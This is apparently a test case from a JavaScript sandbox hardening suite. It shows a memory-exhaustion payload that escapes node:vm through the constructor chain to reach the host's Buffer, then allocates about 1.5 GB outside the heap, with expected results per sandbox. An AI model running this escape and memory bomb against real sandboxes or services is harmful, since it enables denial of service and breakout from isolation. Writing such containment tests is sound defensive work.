/*---
id: buffer-allocunsafe-bomb
title: Fill memory with Buffer.allocUnsafe
category: memory
goal: Allocate uninitialised Node Buffers far past the budget; they live outside the JS heap.
technique: Buffer.allocUnsafe mallocs without zeroing; each 16 MB Buffer is filled so its pages are resident. Where Buffer is missing it is taken from the realm outside a node:vm context.
references: https://nodejs.org/api/buffer.html#static-method-bufferallocunsafesize, https://nodejs.org/api/vm.html#vm-executing-javascript
limits: timeout=3000, memory=128
expect: * = limit-enforced; host = limit-bypassed; host+vm = limit-bypassed; host+vm2* = limit-bypassed; *+isolated-vm = contained; *+quickjs = contained
---*/
// node:vm hides Buffer, but the context's constructor chain leads to the outer realm's Function, whose
// globals include it. Isolates and QuickJS have no Buffer at all: nothing to attack there.
let B = typeof Buffer === 'function' ? Buffer : undefined;
try {
  B ??= this.constructor.constructor('return Buffer')();
} catch {}
if (typeof B !== 'function') 'no Buffer in this realm';
else {
  const keep = [];
  for (let i = 0; i < 96; i++) keep.push(B.allocUnsafe(16 * 1024 * 1024).fill(i)); // 1.5 GB cap for `host`
  `kept ${keep.length} Buffers of 16 MB`;
}
